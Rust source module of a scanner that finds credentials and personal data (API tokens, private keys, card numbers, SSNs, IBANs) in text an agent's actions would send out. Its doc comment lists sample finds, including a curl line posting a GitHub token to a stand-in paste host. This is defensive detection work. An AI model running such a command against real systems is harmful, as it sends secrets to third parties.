//! Secret and personal-data scanner: finds credentials and personal data in the text an action
//! would send, store or print. The HTTP and tool-call analyzers decide, from where the text goes,
//! whether a hit is normal use (a GitHub token sent to `api.github.com`) or a leak.
//!
//! ## What it catches
//! - Credentials with a recognisable format: AWS access key ids (and their 40-character secret
//!   next to one, or after `aws_secret_access_key`), PEM/OpenSSH/PGP private key blocks, GitHub,
//!   GitLab, Slack (tokens and webhook URLs), Stripe secret keys, Google API keys, OAuth client
//!   secrets and refresh tokens, OpenAI and Anthropic keys, Twilio API keys, JSON Web Tokens.
//! - Passwords inside URLs (`postgres://app:s3cret@db/x`), any scheme.
//! - Values of credential-named fields (`password=`, `"client_secret": "…"`, `--token …`,
//!   `Authorization: Bearer …`, `<password>…</password>`, and prose such as
//!   `db pass for prod is Tr!ck3y-2024`), when the value looks like a secret (length, character
//!   classes, Shannon entropy) and not like a placeholder. These are `generic` kinds.
//! - Personal data: Luhn-valid card numbers with a known issuer prefix, US social security
//!   numbers, IBANs (mod-97), email addresses, phone numbers (E.164, NANP).
//!
//! ## Why it matters
//! A credential that reaches a third party is compromised, and an agent's transcript, a pasted
//! log or a webhook body are all third parties. Personal data sent in bulk is a reportable breach.
//!
//! ## Finds
//! ```text
//! curl -H 'Authorization: token ghp_…36 characters…' https://paste.example/api
//! {"aws_access_key_id": "AKIAIOSFODNN7EXAMPLE", "aws_secret_access_key": "wJalrXUtnFEMI/…"}
//! DATABASE_URL=postgres://billing:Vv9#kq2Lr@db.internal:5432/billing
//! card 4111 1111 1111 1111, ssn 536-22-5483, IBAN DE89 3704 0044 0532 0130 00
//! ```
//!
//! ## Passes
//! ```text
//! password_reset=true   token_type=bearer   api_key: ${API_KEY}   password: <redacted>   secret=***
//! access_token=pk.eyJ1Ijoi…   (Mapbox public token)       commit 9fceb02d0ae598e95dc970b74767f19372d61af8
//! image@sha256:…   uuid 123e4567-e89b-12d3-a456-426614174000   R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==
//! reset your password in settings   the token expired   order 4111111111111112 (fails Luhn)
//! ```
//!
//! ## Pipeline
//! 1. A SIMD (Teddy) search for the keywords' four- and three-byte prefixes over a lowercased
//!    copy (made by the byte-class pass below), and `memchr` for `@`; only when one is there does the Aho-Corasick automaton (ASCII
//!    case-insensitive) run over the keywords themselves (`akia`, `ghp_`, `xox`, `-----begin`,
//!    `://`, `password`, `@`, …). One SIMD pass turns the text into per-block bitmasks of byte
//!    classes ([`classes`]); numbers are only read in blocks with eleven bytes of digit groups
//!    or a `+`/`(` before a digit, IBANs only where two capitals precede two digits. `SK`
//!    (Twilio) is found among pairs of capitals. Text without any of them costs a few vector passes.
//! 2. Each keyword hit runs its detector *at the hit*: an anchored search of one pattern of a
//!    multi-pattern ASCII meta regex (bounded repetitions), or a small hand parser (PEM blocks,
//!    JWTs, URLs, emails, field assignments, digit groups). Every detector reads a bounded window
//!    around its hit, or skips past what it consumed, so the scan stays linear.
//! 3. Validation in Rust: word boundaries, entropy, checksums (Luhn, mod-97), JWT header decoding,
//!    placeholder and reference rejection. Then hits are sorted; a generic hit overlapping a
//!    specific one, a hit inside another of its kind and personal data inside a secret are dropped.
//!
//! ## Known gaps
//! - Format-less secrets (32-hex API keys, UUID-shaped keys, 40-hex keys such as old GitHub OAuth
//!   client secrets) are only found under a credential-named field, and a UUID or 40-hex value
//!   is not reported even there (it is usually an id or a commit).
//! - `sk-` keys without an OpenAI marker (`T3BlbkFJ`, `proj-`, …) are reported as OpenAI keys when
//!   long and random; other vendors use the same prefix.
//! - Twilio auth tokens (32 hex, no prefix) are recognised only as `AC<sid>:<token>` (how they
//!   travel in Basic auth) or under a credential-named field; Mapbox `sk.` secret tokens, AWS
//!   session tokens and the long tail of vendor formats are not recognised.
//! - Cards are only read from the start of a digit group run; a card glued after another number
//!   (`12 4111 1111 1111 1111`) is missed. Phone numbers need a `+` or NANP punctuation.
//! - Field values shorter than 8 bytes (`password: hunter2`), made of lowercase words only, or
//!   containing `(`/`[` (taken for code such as `os.environ[…]`) are not reported.
//!   `Authorization: Basic …` is only seen once the caller has decoded it.
//! - Text is scanned as given: the caller decodes JSON, percent-encoding and base64 first.

// Wired in by the HTTP/tool analyzers.
#![cfg_attr(not(test), allow(dead_code))]

pub(crate) mod classes;
mod generic;
mod pii;
#[cfg(test)]
mod tests;
mod tokens;

use crate::fact::Span;
pub(crate) use classes::{long_run_cover, Block, ByteClasses, BLOCK};

/// Whether a hit is a credential or personal data.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub(crate) enum Class {
    Secret,
    Pii,
}

/// One kind of secret or personal data the scanner knows.
#[derive(Debug)]
pub(crate) struct Kind {
    /// Stable id, snake_case: `aws_access_key_id`, `github_token`, `credit_card`, `email`, ...
    pub(crate) id: &'static str,
    /// For messages: "an AWS access key id", "a GitHub token", "a credit card number".
    pub(crate) name: &'static str,
    pub(crate) class: Class,
    /// Host suffixes of the service that issued it, where sending it is normal use. Empty when
    /// unknown or when any host may be the issuer (a JWT, a URL's own password).
    pub(crate) issuers: &'static [&'static str],
    /// True for finds that rest on a field name plus entropy (`password=...`), not on a
    /// recognisable format.
    pub(crate) generic: bool,
}

// Kinds are statics with unique ids: identity is the id.
impl PartialEq for Kind {
    fn eq(&self, other: &Kind) -> bool {
        self.id == other.id
    }
}
impl Eq for Kind {}

/// One find: what it is and where.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct Hit {
    pub(crate) kind: &'static Kind,
    pub(crate) span: Span,
}

const fn secret(id: &'static str, name: &'static str, issuers: &'static [&'static str]) -> Kind {
    Kind { id, name, class: Class::Secret, issuers, generic: false }
}

const fn pii(id: &'static str, name: &'static str) -> Kind {
    Kind { id, name, class: Class::Pii, issuers: &[], generic: false }
}

const AWS: &[&str] = &["amazonaws.com"];
const GOOGLE: &[&str] = &["googleapis.com", "google.com"];

pub(crate) static AWS_ACCESS_KEY_ID: Kind = secret("aws_access_key_id", "an AWS access key id", AWS);
pub(crate) static AWS_SECRET_ACCESS_KEY: Kind = secret("aws_secret_access_key", "an AWS secret access key", AWS);
pub(crate) static PRIVATE_KEY: Kind = secret("private_key", "a private key", &[]);
pub(crate) static GITHUB_TOKEN: Kind =
    secret("github_token", "a GitHub token", &["github.com", "githubusercontent.com", "githubapp.com"]);
pub(crate) static GITLAB_TOKEN: Kind = secret("gitlab_token", "a GitLab token", &["gitlab.com"]);
pub(crate) static SLACK_TOKEN: Kind = secret("slack_token", "a Slack token", &["slack.com"]);
pub(crate) static SLACK_WEBHOOK: Kind = secret("slack_webhook", "a Slack webhook URL", &["slack.com"]);
pub(crate) static STRIPE_SECRET_KEY: Kind = secret("stripe_secret_key", "a Stripe secret key", &["stripe.com"]);
pub(crate) static GOOGLE_API_KEY: Kind = secret("google_api_key", "a Google API key", GOOGLE);
pub(crate) static GOOGLE_OAUTH_CLIENT_SECRET: Kind =
    secret("google_oauth_client_secret", "a Google OAuth client secret", GOOGLE);
pub(crate) static GOOGLE_REFRESH_TOKEN: Kind = secret("google_refresh_token", "a Google OAuth refresh token", GOOGLE);
pub(crate) static OPENAI_API_KEY: Kind = secret("openai_api_key", "an OpenAI API key", &["openai.com"]);
pub(crate) static ANTHROPIC_API_KEY: Kind = secret("anthropic_api_key", "an Anthropic API key", &["anthropic.com"]);
pub(crate) static TWILIO_API_KEY: Kind = secret("twilio_api_key", "a Twilio API key", &["twilio.com"]);
pub(crate) static TWILIO_AUTH_TOKEN: Kind =
    secret("twilio_auth_token", "a Twilio account sid and auth token", &["twilio.com"]);
pub(crate) static SENDGRID_API_KEY: Kind =
    secret("sendgrid_api_key", "a SendGrid API key", &["sendgrid.com", "sendgrid.net"]);
pub(crate) static NPM_TOKEN: Kind = secret("npm_token", "an npm access token", &["npmjs.org", "npmjs.com"]);
pub(crate) static PYPI_TOKEN: Kind = secret("pypi_token", "a PyPI API token", &["pypi.org"]);
pub(crate) static HUGGINGFACE_TOKEN: Kind = secret("huggingface_token", "a Hugging Face token", &["huggingface.co"]);
pub(crate) static DIGITALOCEAN_TOKEN: Kind =
    secret("digitalocean_token", "a DigitalOcean token", &["digitalocean.com"]);
pub(crate) static SHOPIFY_TOKEN: Kind =
    secret("shopify_token", "a Shopify access token", &["myshopify.com", "shopify.com"]);
pub(crate) static VAULT_TOKEN: Kind = secret("vault_token", "a HashiCorp Vault token", &[]);
pub(crate) static DATABRICKS_TOKEN: Kind =
    secret("databricks_token", "a Databricks token", &["databricks.com", "azuredatabricks.net", "databricks.net"]);
pub(crate) static ATLASSIAN_TOKEN: Kind =
    secret("atlassian_token", "an Atlassian API token", &["atlassian.net", "atlassian.com"]);
pub(crate) static AZURE_STORAGE_KEY: Kind =
    secret("azure_storage_key", "an Azure storage account key", &["core.windows.net"]);
pub(crate) static POSTMAN_KEY: Kind =
    secret("postman_api_key", "a Postman API key", &["postman.com", "getpostman.com"]);
pub(crate) static LINEAR_KEY: Kind = secret("linear_api_key", "a Linear API key", &["linear.app"]);
pub(crate) static NOTION_TOKEN: Kind =
    secret("notion_token", "a Notion integration token", &["notion.com", "notion.so"]);
pub(crate) static GRAFANA_TOKEN: Kind =
    secret("grafana_token", "a Grafana service-account token", &["grafana.net", "grafana.com"]);
pub(crate) static DOPPLER_TOKEN: Kind = secret("doppler_token", "a Doppler token", &["doppler.com"]);
pub(crate) static SQUARE_TOKEN: Kind =
    secret("square_token", "a Square access token", &["squareup.com", "squareupsandbox.com"]);
pub(crate) static NEW_RELIC_KEY: Kind = secret("new_relic_key", "a New Relic API key", &["newrelic.com"]);
pub(crate) static SENTRY_TOKEN: Kind = secret("sentry_token", "a Sentry auth token", &["sentry.io"]);
pub(crate) static JWT: Kind = secret("jwt", "a JSON Web Token", &[]);
pub(crate) static URL_PASSWORD: Kind = secret("url_password", "a password in a URL", &[]);
pub(crate) static GENERIC_SECRET: Kind = Kind {
    id: "generic_secret",
    name: "a password or secret in a credential field",
    class: Class::Secret,
    issuers: &[],
    generic: true,
};
pub(crate) static CREDIT_CARD: Kind = pii("credit_card", "a credit card number");
pub(crate) static US_SSN: Kind = pii("us_ssn", "a US social security number");
pub(crate) static IBAN: Kind = pii("iban", "an IBAN");
pub(crate) static EMAIL: Kind = pii("email", "an email address");
pub(crate) static PHONE: Kind = pii("phone", "a phone number");

const N_KINDS: usize = 41;

static KIND_LIST: [&Kind; N_KINDS] = [
    &AWS_ACCESS_KEY_ID,
    &AWS_SECRET_ACCESS_KEY,
    &PRIVATE_KEY,
    &GITHUB_TOKEN,
    &GITLAB_TOKEN,
    &SLACK_TOKEN,
    &SLACK_WEBHOOK,
    &STRIPE_SECRET_KEY,
    &GOOGLE_API_KEY,
    &GOOGLE_OAUTH_CLIENT_SECRET,
    &GOOGLE_REFRESH_TOKEN,
    &OPENAI_API_KEY,
    &ANTHROPIC_API_KEY,
    &TWILIO_API_KEY,
    &TWILIO_AUTH_TOKEN,
    &SENDGRID_API_KEY,
    &NPM_TOKEN,
    &PYPI_TOKEN,
    &HUGGINGFACE_TOKEN,
    &DIGITALOCEAN_TOKEN,
    &SHOPIFY_TOKEN,
    &VAULT_TOKEN,
    &DATABRICKS_TOKEN,
    &ATLASSIAN_TOKEN,
    &AZURE_STORAGE_KEY,
    &POSTMAN_KEY,
    &LINEAR_KEY,
    &NOTION_TOKEN,
    &GRAFANA_TOKEN,
    &DOPPLER_TOKEN,
    &SQUARE_TOKEN,
    &NEW_RELIC_KEY,
    &SENTRY_TOKEN,
    &JWT,
    &URL_PASSWORD,
    &GENERIC_SECRET,
    &CREDIT_CARD,
    &US_SSN,
    &IBAN,
    &EMAIL,
    &PHONE,
];

/// Every kind the scanner reports, secrets first. Each kind is also a `pub(crate) static` of this
/// module (`GITHUB_TOKEN`, `EMAIL`, …) for callers that match on one.
pub(crate) static KINDS: &[&Kind] = &KIND_LIST;

/// Scans `text` (already decoded: the caller walks JSON, percent-decodes forms and decodes base64)
/// and appends every hit, in order of position. Linear time in text length; no heap allocation
/// when nothing matches.
pub(crate) fn scan(text: &str, hits: &mut Vec<Hit>) {
    scan_classified(text, &ByteClasses::of(text.as_bytes()), hits);
}

/// [`scan`] with the text's byte classes already computed (the caller uses them too).
pub(crate) fn scan_classified(text: &str, classes: &ByteClasses, hits: &mut Vec<Hit>) {
    let base = hits.len();
    let bytes = text.as_bytes();
    tokens::scan(text, classes, hits);
    pii::scan_digits(bytes, classes, hits);
    pii::scan_ibans(bytes, classes, hits);
    if hits.len() > base {
        tidy(hits, base);
    }
}

/// A masked rendering of a secret for evidence and audit: a recognisable prefix (`ghp_`, `AKIA`,
/// `sk_live_`), never more than a quarter of the secret, then `***`. Anything without a known
/// prefix is all `***`: the first characters of a password are part of the password.
pub(crate) fn mask(secret: &str) -> String {
    const PREFIXES: &[&str] = &[
        "hooks.slack.com/",
        "sk-ant-api03-",
        "sk-ant-admin01-",
        "github_pat_",
        "sk-svcacct-",
        "sk-admin-",
        "sk-proj-",
        "sk-ant-",
        "sk_live_",
        "sk_test_",
        "sk_prod_",
        "rk_live_",
        "rk_test_",
        "rk_prod_",
        "-----BEGIN",
        "GOCSPX-",
        "glpat-",
        "glptt-",
        "gldt-",
        "glrt-",
        "xoxb-",
        "xoxp-",
        "xoxa-",
        "xoxr-",
        "xoxe-",
        "xoxs-",
        "xapp-",
        "ghp_",
        "gho_",
        "ghu_",
        "ghs_",
        "ghr_",
        "AKIA",
        "ASIA",
        "ABIA",
        "ACCA",
        "AIza",
        "1//0",
        "A3T",
        "eyJ",
        "sk-",
        "SK",
    ];
    let quarter = secret.len() / 4;
    let keep = PREFIXES.iter().find(|p| secret.starts_with(**p)).map_or(0, |p| p.len().min(quarter));
    // Prefixes are ASCII, so any cut inside one is a char boundary.
    let mut out = String::with_capacity(keep + 3);
    out.push_str(secret.get(..keep).unwrap_or_default());
    out.push_str("***");
    out
}

/// Sorts the hits appended since `base` by position and drops redundant ones: a hit inside an
/// earlier hit of its kind, personal data inside a secret, a generic hit overlapping a specific
/// secret (the specific kind says more).
fn tidy(hits: &mut Vec<Hit>, base: usize) {
    const DROPPED: Span = Span::new(usize::MAX, usize::MAX);
    let Some(tail) = hits.get_mut(base..) else { return };
    tail.sort_unstable_by(|a, b| {
        (a.span.start, std::cmp::Reverse(a.span.end), a.kind.id).cmp(&(
            b.span.start,
            std::cmp::Reverse(b.span.end),
            b.kind.id,
        ))
    });
    let mut kind_end = [0usize; N_KINDS];
    let (mut secret_end, mut specific_end) = (0usize, 0usize);
    for h in tail.iter_mut() {
        let k = kind_index(h.kind);
        let same_kind_end = kind_end.get(k).copied().unwrap_or(0);
        let dropped = h.span.end <= same_kind_end
            || (h.kind.class == Class::Pii && h.span.end <= secret_end)
            || (h.kind.generic && specific_end > h.span.start);
        if dropped {
            h.span = DROPPED;
            continue;
        }
        if let Some(e) = kind_end.get_mut(k) {
            *e = (*e).max(h.span.end);
        }
        if h.kind.class == Class::Secret {
            secret_end = secret_end.max(h.span.end);
            if !h.kind.generic {
                specific_end = specific_end.max(h.span.end);
            }
        }
    }
    // Specific secrets that start inside a generic hit.
    let mut specific_start = usize::MAX;
    for h in tail.iter_mut().rev() {
        if h.span == DROPPED {
            continue;
        }
        if h.kind.generic {
            if specific_start < h.span.end {
                h.span = DROPPED;
            }
        } else if h.kind.class == Class::Secret {
            specific_start = specific_start.min(h.span.start);
        }
    }
    let mut w = base;
    for r in base..hits.len() {
        let Some(h) = hits.get(r).copied() else { break };
        if h.span != DROPPED {
            if let Some(slot) = hits.get_mut(w) {
                *slot = h;
            }
            w += 1;
        }
    }
    hits.truncate(w);
}

fn kind_index(kind: &Kind) -> usize {
    KIND_LIST.iter().position(|k| k.id == kind.id).unwrap_or(0)
}

fn push(hits: &mut Vec<Hit>, kind: &'static Kind, start: usize, end: usize) {
    hits.push(Hit { kind, span: Span::new(start, end) });
}

// Byte helpers shared by the detectors. Out-of-range reads give 0, which no class contains, so
// parsers need no bounds checks of their own.

/// The byte at `i`, or 0 past the end.
fn at(b: &[u8], i: usize) -> u8 {
    b.get(i).copied().unwrap_or(0)
}

/// The byte before `i`, or 0 at the start.
fn before(b: &[u8], i: usize) -> u8 {
    i.checked_sub(1).map_or(0, |j| at(b, j))
}

fn slice(b: &[u8], start: usize, end: usize) -> &[u8] {
    b.get(start..end).unwrap_or_default()
}

fn starts_with_at(b: &[u8], i: usize, prefix: &[u8]) -> bool {
    b.get(i..).is_some_and(|rest| rest.starts_with(prefix))
}

fn is_alnum(c: u8) -> bool {
    c.is_ascii_alphanumeric()
}

/// `[A-Za-z0-9_]`.
fn is_word(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_'
}

/// `[A-Za-z0-9_-]`: base64url and most token alphabets.
fn is_token(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_' || c == b'-'
}

/// Which character classes a value mixes.
#[derive(Debug, Clone, Copy, Default)]
struct Classes {
    lower: bool,
    upper: bool,
    digit: bool,
    /// Anything else, including non-ASCII.
    symbol: bool,
}

impl Classes {
    fn of(v: &[u8]) -> Classes {
        let mut c = Classes::default();
        for &x in v {
            match x {
                b'a'..=b'z' => c.lower = true,
                b'A'..=b'Z' => c.upper = true,
                b'0'..=b'9' => c.digit = true,
                _ => c.symbol = true,
            }
        }
        c
    }

    fn count(self) -> u32 {
        u32::from(self.lower) + u32::from(self.upper) + u32::from(self.digit) + u32::from(self.symbol)
    }
}

/// Shannon entropy in bits per byte.
fn entropy(v: &[u8]) -> f64 {
    if v.is_empty() {
        return 0.0;
    }
    let mut counts = [0u32; 256];
    for &x in v {
        if let Some(c) = counts.get_mut(usize::from(x)) {
            *c += 1;
        }
    }
    let n = v.len() as f64;
    counts
        .iter()
        .filter(|&&c| c > 0)
        .map(|&c| {
            let p = f64::from(c) / n;
            -p * p.log2()
        })
        .sum()
}

/// Fewer than `min` distinct bytes: `xxxx…`, `0000…`, `abab…` — a documentation placeholder.
fn too_few_distinct(v: &[u8], min: usize) -> bool {
    let mut seen = [false; 256];
    let mut n = 0;
    for &x in v {
        if let Some(s) = seen.get_mut(usize::from(x)) {
            if !*s {
                *s = true;
                n += 1;
                if n >= min {
                    return false;
                }
            }
        }
    }
    true
}

fn contains_ci(hay: &[u8], needle: &[u8]) -> bool {
    !needle.is_empty() && hay.windows(needle.len()).any(|w| w.eq_ignore_ascii_case(needle))
}

/// A value that stands for a secret instead of being one: templates, environment references,
/// masks, documentation stand-ins. Shared by the URL and field detectors.
fn is_placeholder(v: &[u8]) -> bool {
    const EXACT: &[&[u8]] = &[
        b"password",
        b"passwd",
        b"pass",
        b"pwd",
        b"secret",
        b"token",
        b"null",
        b"none",
        b"nil",
        b"undefined",
        b"true",
        b"false",
        b"empty",
        b"hidden",
        b"masked",
        b"required",
        b"optional",
        b"string",
        b"changeit",
    ];
    const INSIDE: &[&[u8]] = &[
        b"example",
        b"placeholder",
        b"changeme",
        b"change_me",
        b"change-me",
        b"redacted",
        b"your_",
        b"your-",
        b"yourpass",
        b"yourtoken",
        b"yoursecret",
        b"dummy",
        b"xxxx",
        b"****",
        b"replace_me",
        b"replaceme",
        b"replace-me",
        b"insert_",
        b"insert-",
        b"${",
        b"{{",
        b"}}",
    ];
    let Some(&first) = v.first() else { return true };
    let last = v.last().copied().unwrap_or(0);
    // `$VAR`, `${VAR}`, `$(cmd)`, and `$2b$…` hashes: a reference or a digest, not the secret.
    if first == b'$'
        || (first == b'<' && last == b'>')
        || (first == b'{' && last == b'}')
        || (first == b'[' && last == b']')
        || (first == b'%' && matches!(at(v, 1), b'(' | b's' | b'{'))
        || v.starts_with(b"ENC[")
        || v.starts_with(b"vault:")
        || v.starts_with(b"arn:")
    {
        return true;
    }
    if v.iter().all(|c| matches!(c, b'*' | b'x' | b'X' | b'.' | b'#' | b'-' | b'_' | b'?' | b'0')) {
        return true;
    }
    EXACT.iter().any(|e| v.eq_ignore_ascii_case(e)) || INSIDE.iter().any(|n| contains_ci(v, n))
}
